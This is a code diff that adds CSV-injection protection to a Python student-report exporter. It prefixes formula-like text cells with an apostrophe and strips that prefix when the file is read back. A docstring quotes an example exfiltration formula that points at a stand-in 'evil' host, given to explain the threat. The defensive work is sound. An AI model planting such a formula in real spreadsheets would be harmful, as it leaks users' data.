@@ -118,20 +118,40 @@ def _umask() -> int:
 COLUMNS = [f.name for f in fields(StudentReport)]
 
 
+#: A spreadsheet reads a cell starting with one of these as a formula (OWASP's "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value):
+    """A text cell a spreadsheet shows as text: one starting like a formula gets a leading apostrophe.
+
+    The report's text comes partly from students (the timestamp they handed in, the names of their
+    files, the errors their code raised): ``=HYPERLINK("http://evil/?"&A2)`` must not run in the
+    instructor's spreadsheet. Numbers are left as they are.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def _from_spreadsheet(value: str) -> str:
+    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_STARTS) else value
+
+
 def reports_to_csv(reports: list[StudentReport]) -> str:
-    """The reports as CSV text, one row per student, with a header."""
+    """The reports as CSV text, one row per student, with a header (text cells :func:`spreadsheet_safe`)."""
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=COLUMNS, lineterminator="\n")
     writer.writeheader()
     for report in reports:
-        writer.writerow(asdict(report))
+        writer.writerow({key: spreadsheet_safe(value) for key, value in asdict(report).items()})
     return buffer.getvalue()
 
 
 def read_csv(path: str | os.PathLike) -> list[StudentReport]:
     """Read back a report written by :func:`reports_to_csv`."""
     with open(path, newline="", encoding="utf-8") as fh:
-        rows = list(csv.DictReader(fh))
+        rows = [{key: _from_spreadsheet(value or "") for key, value in row.items()} for row in csv.DictReader(fh)]
     numbers = ("auto_score", "auto_max", "manual_score", "manual_max", "manual_pending")
     return [StudentReport(student=r["student"], score=float(r["score"]), max_score=float(r["max_score"]),
                           status=r["status"], detail=r["detail"], timestamp=r["timestamp"],
